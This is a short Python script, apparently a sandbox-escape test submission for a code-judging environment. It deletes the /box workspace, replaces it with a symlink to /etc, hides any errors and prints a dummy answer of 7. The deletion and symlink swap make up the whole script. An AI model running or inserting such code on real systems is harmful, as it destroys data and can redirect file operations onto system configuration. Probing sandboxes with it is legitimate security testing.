import os, shutil
os.chdir("/")
try:
    shutil.rmtree("/box")
    os.symlink("/etc", "/box")
except OSError:
    pass
print(7)
